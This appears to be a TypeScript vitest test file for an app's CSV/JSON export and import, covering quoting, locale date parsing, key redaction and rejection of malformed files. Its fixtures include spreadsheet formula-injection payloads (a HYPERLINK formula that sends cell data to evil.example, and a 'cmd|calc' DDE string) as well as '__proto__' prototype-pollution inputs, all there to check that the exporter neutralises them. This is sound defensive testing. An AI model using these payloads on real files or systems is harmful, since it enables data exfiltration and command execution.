import { describe, expect, test } from 'vitest';
import { readCsv, writeCsv } from '../../../../../src/ui/app/csv';
import { inParts, readFile, writeFile } from '../../../../../src/ui/pages/history/transfer/export-file';
import { COLUMNS, type ExportRow, flatRow, rowOf } from '../../../../../src/ui/pages/history/transfer/rows';
import { importedRowSchema, ingestionFromRow } from '../../../../../src/watch/import-row';
import { IMPORT_ROWS_MAX } from '../../../../../src/watch/model/limits';
import type { ConnectionView, Ingestion } from '../../../../../src/watch/model/records';
import { HOME, idOf, NOW, watching } from '../../../samples';
import { over, timed, timesAsLong } from './records';

const HOME_VIEW: ConnectionView = {
  id: HOME,
  name: 'production',
  baseUrl: 'https://home.example',
  colour: 'blue',
  keyMode: 'kept',
  last4: '1a2b',
  identity: null,
  checkError: null,
  blocked: null,
  limitPerMin: null,
  typicalMs: null,
  slowAfterMs: null,
};

const KEY = 'synap_live_0123456789abcdef';

/** What a hostile server, or a person, put into texts. */
const TEXTS = [
  '=HYPERLINK("https://evil.example?"&A1)',
  '+1',
  '-1+cmd|calc',
  '@SUM(A1)',
  '\ttab',
  '\rreturn',
  "'quoted",
  "'=quoted",
  'a "quote", a comma; and\r\ntwo lines',
  '',
  ' blanks ',
  '\u202Eturned',
  '🧠,"',
];

describe('CSV', () => {
  test('has every cell in quotes and every line ended, by RFC 4180', () => {
    expect(
      writeCsv([
        ['a', 'say "hi", you'],
        ['', 'two\nlines'],
      ]),
    ).toBe('\uFEFF"a","say ""hi"", you"\r\n"","two\nlines"\r\n');
  });

  test('has no cell that a spreadsheet would calculate', () => {
    const cells = readCsv(writeCsv([TEXTS]).replaceAll('"\'', '"!'), 10)?.[0] ?? [];
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    expect(writeCsv([['=1+1']])).toContain(`"'=1+1"`);
  });

  test('is read back as it was written, guards and all', () => {
    expect(readCsv(writeCsv([TEXTS, TEXTS]), 10)).toEqual([TEXTS, TEXTS]);
  });

  test('is read as others write it', () => {
    expect(readCsv('a,b\n1,"2,3"\n\n4,', 10)).toEqual([
      ['a', 'b'],
      ['1', '2,3'],
      ['4', ''],
    ]);
    expect(readCsv('a\r\n', 10)).toEqual([['a']]);
    expect(readCsv('', 10)).toEqual([]);
  });

  test('is read with the separator of its first line: of other countries, of other programs, or named', () => {
    for (const text of [
      'a;b\r\n"1,2;3";4,5',
      'a\tb\r1,2;3\t4,5',
      'a|b\n1,2;3|4,5',
      'sep=;\r\na;b\r\n"1,2;3";4,5\r\n',
    ]) {
      expect(readCsv(text, 10)).toEqual([
        ['a', 'b'],
        ['1,2;3', '4,5'],
      ]);
    }
  });

  test('has no row where a spreadsheet left a line of empty cells', () => {
    expect(readCsv('a;b\r\n;\r\n1;2\r\n;\r\n', 10)).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
  });

  test('is read no further than asked for', () => {
    expect(readCsv('a\nb\nc', 2)).toEqual([['a'], ['b']]);
  });

  test('that is broken is refused, not read in part', () => {
    expect(readCsv('"never ends', 10)).toBeNull();
    expect(readCsv('"ends"too late', 10)).toBeNull();
  });

  test('of many rows is read in a moment', () => {
    const text = 'a,"b ""c"" d",e\r\n'.repeat(20_000);
    expect(readCsv(text, 200_000)).toHaveLength(20_000);
    expect(
      timesAsLong(
        () => readCsv(text, 200_000),
        () => [...text].join(''),
      ),
    ).toBeLessThan(10);
  });
});

const RECORDS: Ingestion[] = [
  over(1, 'completed', {
    documentId: '=1+1',
    rawStatus: 'completed',
    status: 'completed',
    memoriesCreated: 2,
    memoryIds: ['m1', 'm2'],
    addedAt: NOW - 20_000,
    label: "'mine'",
    note: 'two\nlines, and "quotes"',
    ...timed(NOW, 10_000, 2_000),
  }),
  over(2, 'failed', { errorMessage: '@all of it\r\nfailed', addedAt: NOW - 10_000, batchId: idOf(9) }),
  watching(3, { status: 'processing', rawStatus: 'processing', addedAt: NOW - 30_000 }),
];

describe.each(['json', 'csv'] as const)('a file of %s', (format) => {
  const write = (records: Ingestion[]) =>
    writeFile(
      records.map((record) => rowOf(record, [HOME_VIEW])),
      format,
      { at: '2026-01-15T12:00:00.000Z', version: '1.2.3' },
    );

  test('brings back what went out, the newest first', () => {
    const content = readFile(write(RECORDS));
    if (content.is !== 'rows') throw new Error(content.why);
    const back = content.rows.map((row) => ingestionFromRow(importedRowSchema.parse(row), HOME, NOW));
    const facts = ({
      id,
      documentId,
      rawStatus,
      queuedAt,
      startedAt,
      completedAt,
      addedAt,
      ...rest
    }: Ingestion) => ({
      id,
      documentId,
      rawStatus,
      queuedAt,
      startedAt,
      completedAt,
      addedAt,
      memoryIds: rest.memoryIds,
      memories: rest.memoriesCreated,
      error: rest.errorMessage,
      label: rest.label,
      note: rest.note,
      batchId: rest.batchId,
      outcome: rest.state === 'ended' ? rest.outcome : null,
    });
    const [first, second, third] = RECORDS.map(facts);
    expect(back.map(facts)).toEqual([second, first, third]);
    expect(back.map(({ state }) => state)).toEqual(['ended', 'ended', 'stopped']);
  });

  test('has of a connection its name and address, and no key, wherever one was written', () => {
    const leaky = over(4, 'failed', {
      note: `curl -H "Authorization: Bearer ${KEY}"`,
      label: KEY,
      errorMessage: `bad key ${KEY}`,
      documentId: KEY,
    });
    const text = write([leaky]);
    expect(text).not.toContain(KEY);
    expect(text).not.toContain('1a2b');
    expect(text).toContain('production');
    expect(text).toContain('https://home.example');
  });

  test('says nothing of a time that has no four-digit year', () => {
    const content = readFile(write([over(5, 'completed', { queuedAt: 8e15, completedAt: Number.NaN })]));
    expect(content).toMatchObject({ is: 'rows', refused: 0 });
  });
});

/**
 * What Excel makes of a text with commas where it expects semicolons: only a cell that begins with a quote is in quotes, and only
 * as far as the next one. What it then saves has as many cells in each line as the longest.
 */
function savedByGermanExcel(text: string): string {
  const lines = text.replace('\uFEFF', '').trimEnd().split(/\r?\n/);
  const cells = lines.map((line) =>
    line.split(';').map((cell) => cell.replace(/^"([^"]*)"/, '$1').replace(/^"/, '')),
  );
  const most = Math.max(...cells.map(({ length }) => length));
  const written = (cell: string) => (/[";]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
  const saved = cells.map((line) =>
    Array.from({ length: most }, (_, at) => written(line[at] ?? '')).join(';'),
  );
  return `\uFEFF${saved.join('\r\n')}\r\n`;
}

describe('our own table, saved by a spreadsheet', () => {
  const HEAD = ['ingestion_id', 'outcome', 'added_at', 'completed_at', 'memories_created', 'memory_ids'];
  const UUID = '7C9E6679-7425-40DE-944B-E07FC1F90AE7';
  const read = (separator: string, ...lines: string[][]) => {
    const text = [HEAD, ...lines].map((cells) => cells.join(separator)).join('\r\n');
    const content = readFile(`\uFEFF${text}\r\n`);
    if (content.is !== 'rows') throw new Error(content.why);
    return content.rows.map((row) => ingestionFromRow(importedRowSchema.parse(row), HOME, NOW));
  };
  const at = (time: string) => Date.parse(time);

  test('in German comes in: semicolons, upper-case IDs, its dates, its numbers', () => {
    const [record] = read(';', [
      UUID,
      'completed',
      '15.01.2026 00:00',
      '15.01.2026 09:05:30',
      '1000.0',
      'm1 m2',
    ]);
    expect(record).toMatchObject({
      id: UUID.toLowerCase(),
      addedAt: at('2026-01-15T00:00:00Z'),
      completedAt: at('2026-01-15T09:05:30Z'),
      memoriesCreated: 1_000,
      memoryIds: ['m1', 'm2'],
    });
  });

  test.each([
    ['2026-01-15T00:00:00.000Z', '2026-01-15T00:00:00Z'],
    ['2026-01-15 07:30', '2026-01-15T07:30:00Z'],
    ['2026-01-15', '2026-01-15T00:00:00Z'],
    ['2026/1/15 7:30', '2026-01-15T07:30:00Z'],
    ['15.1.26', '2026-01-15T00:00:00Z'],
    ['15.01.2026, 7:30', '2026-01-15T07:30:00Z'],
    ['1/15/2026 12:05 AM', '2026-01-15T00:05:00Z'],
    ['1/15/2026 1:05:07 PM', '2026-01-15T13:05:07Z'],
    ['15/01/2026 13:05', '2026-01-15T13:05:00Z'],
    ['1/15/2026\u202f1:05 PM', '2026-01-15T13:05:00Z'],
    ['15/1/2026 1:05 p. m.', '2026-01-15T13:05:00Z'],
    ['15.1.2026 13.05', '2026-01-15T13:05:00Z'],
    ['2026. 01. 15. 13:05', '2026-01-15T13:05:00Z'],
    ['46037,5', '2026-01-15T12:00:00Z'],
    ['\u200f15/01/2026 01:05 م', '2026-01-15T13:05:00Z'],
    ['١٥/٠١/٢٠٢٦ ١٣:٠٥', '2026-01-15T13:05:00Z'],
    ['2026/1/15 下午 1:05', '2026-01-15T13:05:00Z'],
    ['2026. 1. 15. 오후 1:05', '2026-01-15T13:05:00Z'],
    ['15. 1. 2026 13:05', '2026-01-15T13:05:00Z'],
    ['15.1.2026. 13:05', '2026-01-15T13:05:00Z'],
    ['15.1.2026 г. 13:05', '2026-01-15T13:05:00Z'],
    ['15.01.2026 13:05 Uhr', '2026-01-15T13:05:00Z'],
    ['2026年1月15日 13:05', '2026-01-15T13:05:00Z'],
    ['15-Jan-26', '2026-01-15T00:00:00Z'],
    ['15-JAN-2026 13:05:07', '2026-01-15T13:05:07Z'],
    ['15 Jan 2026 at 13:05', '2026-01-15T13:05:00Z'],
    ['Jan 15, 2026 1:05 PM', '2026-01-15T13:05:00Z'],
    ['Sept. 5, 2026', '2026-09-05T00:00:00Z'],
    ['Thursday, January 15, 2026', '2026-01-15T00:00:00Z'],
  ])('has the time %s in UTC, as the export wrote it', (written, meant) => {
    const [record] = read(';', [UUID, '', '2026-01-01T00:00:00.000Z', written, '', '']);
    expect(record?.completedAt).toBe(at(meant));
  });

  test.each([
    UUID.replaceAll('-', ''),
    `{${UUID}}`,
    `urn:uuid:${UUID}`,
    ` ${UUID} `,
    `\u200e${UUID}\u200e`,
    UUID.replaceAll('-', '\u2011'),
    `'${UUID}`,
    `"=""${UUID}"""`,
  ])('comes in with the ID spelled %j, and an outcome in capitals', (written) => {
    const [record] = read(';', [written, 'COMPLETED ', '2026-01-15T00:00:00.000Z', '', '', '']);
    expect(record).toMatchObject({ id: UUID.toLowerCase(), outcome: { kind: 'completed' } });
  });

  test.each([
    ['de', '15. März 2026, 13:05'],
    ['de-AT', '15-Mär-26 13:05'],
    ['fr', '15 mars 2026 13:05'],
    ['es', '15 de marzo de 2026 13:05'],
    ['pl', '15 marca 2026 13:05'],
    ['de', '15 March 2026 13:05'],
    ['en-US@posix', '15 March 2026 13:05'],
  ])('has the months of the language of the browser (%s), and those of English: %s', (language, written) => {
    const content = readFile(`ingestion_id;added_at\n${UUID};${written}`, language);
    expect(content).toMatchObject({ is: 'rows', rows: [{ added_at: '2026-03-15T13:05:00.000Z' }] });
  });

  test('leaves a month that may be two as it is', () => {
    const content = readFile(`ingestion_id;added_at\n${UUID};15 Ju 2026`);
    expect(content).toMatchObject({ is: 'rows', rows: [{ added_at: '15 Ju 2026' }] });
  });

  test('comes in where two exports were joined, each with its head', () => {
    const row = (id: string) => `${id},completed,2026-01-15T00:00:00.000Z,,7,m1`;
    const head = HEAD.join(',');
    const text = [`\uFEFF${head}`, row(UUID), `\uFEFF"${HEAD.join('","')}"`, row(idOf(9)), ''].join('\r\n');
    const content = readFile(text);
    if (content.is !== 'rows') throw new Error(content.why);
    expect(content.rows.map((one) => one.ingestion_id)).toEqual([UUID.toLowerCase(), idOf(9)]);
  });

  test('says by its other dates which number of 3/4/2026 is the month, and is not guessed at without any', () => {
    const times = (...written: string[]) =>
      read(',', ...written.map((time) => [UUID, '', time, '', '', ''])).map(({ addedAt }) =>
        new Date(addedAt).toISOString().slice(0, 10),
      );
    expect(times('3/4/2025', '3/25/2025')).toContain('2025-03-04');
    expect(times('3/4/2025', '25/3/2025')).toContain('2025-04-03');
    expect(times('3/4/2025 1:00 PM')).toContain('2025-03-04');
    expect(() => times('3/4/2025')).toThrow();
    expect(() => times('3/4/2025 1:00 p. m.')).toThrow();
  });

  test('comes in with a title above it, bars between its cells, and headings in words', () => {
    const cells = [UUID, '', '2026-01-15T00:00:00.000Z', '', '7', ''];
    const text = [
      'My ingestions',
      '',
      HEAD.map((name) => name.replaceAll('_', ' ')).join('|'),
      cells.join('|'),
    ];
    expect(readFile(text.join('\n'))).toMatchObject({
      is: 'rows',
      rows: [{ memories_created: 7 }],
      refused: 0,
    });
  });

  test.each(['Partial success', 'partial-success', 'PARTIAL_SUCCESS'])(
    'has the outcome that a person writes as %s',
    (written) => {
      const [record] = read(';', [UUID, written, '2026-01-15T00:00:00.000Z', '', '', '']);
      expect(record).toMatchObject({ outcome: { kind: 'partial_success' } });
    },
  );

  test.each([
    ['Canceled', 'cancelled'],
    ['success', 'completed'],
    ['timed out', 'timed_out'],
    ['rejected', 'rejected'],
  ])('has the outcome that others call %s', (written, kind) => {
    const [record] = read(';', [UUID, written, '2026-01-15T00:00:00.000Z', '', '', '']);
    expect(record).toMatchObject({ outcome: { kind } });
  });

  test.each(['NA', '#N/A', '########', 'NaN', 'NaT', 'None', 'null', '\\N', '-'])(
    'has nothing where a program wrote %s for it',
    (written) => {
      const row = [UUID, written, '2026-01-15T00:00:00.000Z', written, written, written];
      expect(read(';', row)).toMatchObject([
        { state: 'stopped', completedAt: null, memoriesCreated: 0, memoryIds: [] },
      ]);
    },
  );

  test.each(['["m1", "m2"]', "['m1', 'm2']", '[m1,m2]'])('has the memories of a list: %s', (written) => {
    const cell = `"${written.replaceAll('"', '""')}"`;
    const [record] = read(';', [UUID, '', '2026-01-15T00:00:00.000Z', '', '2', cell]);
    expect(record?.memoryIds).toEqual(['m1', 'm2']);
  });

  test.each([
    ['1000.0', 1_000],
    ['1.000,5', 1_000],
    ['1,000.00', 1_000],
    ['1.234.567', 1_234_567],
    ['12 345', 12_345],
    ['3,0', 3],
    ['1,00E+03', 1_000],
    ['1,23,456', 123_456],
    ['١٬٠٠٠', 1_000],
    ['７', 7],
    ['NA', 0],
    ['7', 7],
  ])('has %s memories as a whole number', (written, meant) => {
    const [record] = read(';', [UUID, '', '2026-01-01 00:00', '', written, '']);
    expect(record?.memoriesCreated).toBe(meant);
  });

  test('is found below a title that speaks of an ingestion ID, with headings run together, behind two marks', () => {
    const head = ['ingestionId', 'addedAt', 'memoriesCreated'].join(';');
    const row = [UUID, '2026-01-15T00:00:00.000Z', '7'].join(';');
    expect(readFile(`\uFEFF\uFEFF"${head.replaceAll(';', '";"')}"\n${row}`)).toMatchObject({
      is: 'rows',
      rows: [{ memories_created: 7 }],
    });
    expect(readFile(`Each ingestion ID of January\n\n${head}\n${row}`)).toMatchObject({
      is: 'rows',
      rows: [{ memories_created: 7 }],
    });
  });

  test('comes in where the spreadsheet took each row for one cell, as Excel does where lists have semicolons', () => {
    const texts = { label: 'one; two', note: 'two\nlines; and "quotes"', errorMessage: "don't; ever" };
    const records = [
      over(1, 'failed', { documentId: '=1+1', memoryIds: ['m1', 'm2'], ...texts }),
      over(2, 'completed', { documentId: 'plain.pdf', addedAt: NOW - 10_000 }),
    ];
    const rows = records.map((record) => rowOf(record, [HOME_VIEW]));
    const saved = savedByGermanExcel(writeFile(rows, 'csv', { at: null, version: '1.2.3' }));
    expect(saved).toMatch(/^\uFEFF"ingestion_id,""document_id""/);
    const content = readFile(saved);
    if (content.is !== 'rows') throw new Error(content.why);
    const back = content.rows.map((row) => ingestionFromRow(importedRowSchema.parse(row), HOME, NOW));
    const facts = ({ id, documentId, label, note, errorMessage }: Ingestion) => [
      ...[id, documentId, label, note, errorMessage],
    ];
    expect(back.map(facts)).toEqual(records.map(facts));
  });

  test('is refused in the row that makes no sense, and only there', () => {
    const lines = ['31.02.2026', '15.01.2026'].map((day) => [UUID, '', day, '', '', '']);
    const text = [HEAD, ...lines].map((cells) => cells.join(';')).join('\n');
    const content = readFile(text);
    if (content.is !== 'rows') throw new Error(content.why);
    const fits = content.rows.map((row) => importedRowSchema.safeParse(row).success);
    expect(fits.sort()).toEqual([false, true]);
  });
});

test('a row with a time that stands for none comes in without it', () => {
  const row = {
    ingestion_id: idOf(1),
    added_at: '2026-01-15T12:00:00Z',
    completed_at: '9999-12-31T23:59:59Z',
  };
  expect(ingestionFromRow(importedRowSchema.parse(row), HOME, NOW).completedAt).toBeNull();
});

describe('an ingestion of a thousand memories', () => {
  const memoryIds = Array.from({ length: 1_000 }, (_, n) => idOf(n));
  const rich = over(1, 'completed', { memoryIds, memoriesCreated: 1_000 });
  const write = (format: 'json' | 'csv') =>
    writeFile([rowOf(rich, [HOME_VIEW])], format, { at: null, version: '1.2.3' });
  const idsIn = (text: string) => {
    const content = readFile(text);
    if (content.is !== 'rows') throw new Error(content.why);
    return importedRowSchema.parse(content.rows[0]).memory_ids;
  };

  test('has in the CSV no cell longer than a spreadsheet takes: the first IDs, and of how many', () => {
    const cells = readCsv(write('csv'), 10)?.[1] ?? [];
    for (const cell of cells) expect(cell.length).toBeLessThanOrEqual(32_767);
    const cell = cells[COLUMNS.indexOf('memory_ids')] ?? '';
    expect(cell).toMatch(new RegExp(`^${idOf(0)} ${idOf(1)} .* … \\(first \\d+ of 1000\\)$`));
  });

  test('comes back from the CSV with the IDs that are in it, and no mark among them', () => {
    const ids = idsIn(write('csv'));
    expect(ids.length).toBeGreaterThan(800);
    expect(ids).toEqual(memoryIds.slice(0, ids.length));
  });

  test('is whole in the JSON', () => {
    expect(idsIn(write('json'))).toEqual(memoryIds);
  });
});

describe('a file that is none of ours', () => {
  test.each([
    ['nothing', '', 'empty'],
    ['words', 'hello', 'not_ours'],
    ['other JSON', '{"ingestions": [{}]}', 'not_ours'],
    ['a list', '[{"ingestion_id": "x"}]', 'not_ours'],
    ['half a file', '{"format": "ingestion-inspector"', 'not_ours'],
    ['an older version', '{"format":"ingestion-inspector","version":0,"ingestions":[{}]}', 'not_ours'],
    ['a newer version', '{"format":"ingestion-inspector","version":2,"ingestions":[{}]}', 'too_new'],
    ['no list', '{"format":"ingestion-inspector","version":1,"ingestions":{"length":9}}', 'not_ours'],
    ['an empty list', '{"format":"ingestion-inspector","version":1,"ingestions":[]}', 'empty'],
    ['another table', 'name,age\r\nAda,36\r\n', 'not_ours'],
    ['a table without rows', '"ingestion_id","label"\r\n', 'empty'],
    [
      'an inherited format',
      '{"__proto__":{"format":"ingestion-inspector","version":1,"ingestions":[{}]}}',
      'not_ours',
    ],
  ])('%s is refused as a whole', (_, text, why) => {
    expect(readFile(text)).toEqual({ is: 'refused', why });
  });

  test('nested without end brings in nothing', () => {
    const deep = `{"format":"ingestion-inspector","version":1,"ingestions":${'['.repeat(1e5)}${']'.repeat(1e5)}}`;
    expect(readFile(deep)).toEqual({ is: 'rows', rows: [], refused: 1 });
  });

  test('of a million rows is refused as a whole', () => {
    const json = `{"format":"ingestion-inspector","version":1,"ingestions":[${'{},'.repeat(1e6)}{}]}`;
    expect(readFile(json)).toEqual({ is: 'refused', why: 'too_many' });
    expect(readFile(`ingestion_id\n${'x\n'.repeat(1e6)}`)).toEqual({ is: 'refused', why: 'too_many' });
  });
});

describe('a row', () => {
  const file = (...ingestions: unknown[]) =>
    readFile(JSON.stringify({ format: 'ingestion-inspector', version: 1, ingestions }));

  test('that cannot be one is counted, and keeps none of the others out', () => {
    const good = { ingestion_id: idOf(1) };
    const content = file(null, 7, 'x', [], { ingestion_id: { a: 1 } }, { memory_ids: [[]] }, good, {
      note: 'x'.repeat(3_000_001),
    });
    expect(content).toEqual({ is: 'rows', rows: [good], refused: 7 });
  });

  test('has its counts as numbers, and no values that stand for none, where a program wrote them as texts', () => {
    const written = {
      ingestion_id: idOf(1),
      memories_created: '3',
      outcome: '',
      queued_at: null,
      label: null,
    };
    expect(file(written)).toEqual({
      is: 'rows',
      rows: [{ ingestion_id: idOf(1), memories_created: 3 }],
      refused: 0,
    });
  });

  test('leaves behind everything that is no column', () => {
    const row = JSON.parse(
      `{"ingestion_id":"x","__proto__":{"label":"evil"},"constructor":1,"deep":${'['.repeat(500)}${']'.repeat(500)}}`,
    );
    expect(flatRow(row)).toEqual({ ingestion_id: 'x' });
    expect(Object.keys(flatRow(row) ?? {})).toEqual(['ingestion_id']);
  });

  test('of ours has the columns in their order', () => {
    expect(Object.keys(rowOf(watching(1), []))).toEqual([...COLUMNS]);
  });

  test('goes out with as many others as one command takes, and is no strain', () => {
    const small: ExportRow[] = Array.from({ length: 1_201 }, (_, n) => ({ ingestion_id: idOf(n) }));
    expect(inParts(small).map(({ length }) => length)).toEqual([IMPORT_ROWS_MAX, IMPORT_ROWS_MAX, 201]);
    const large: ExportRow[] = Array.from({ length: 9 }, () => ({ note: 'x'.repeat(900_000) }));
    expect(Math.max(...inParts(large).map(({ length }) => length))).toBe(4);
    expect(inParts(large).flat()).toHaveLength(9);
    expect(inParts([])).toEqual([]);
  });
});
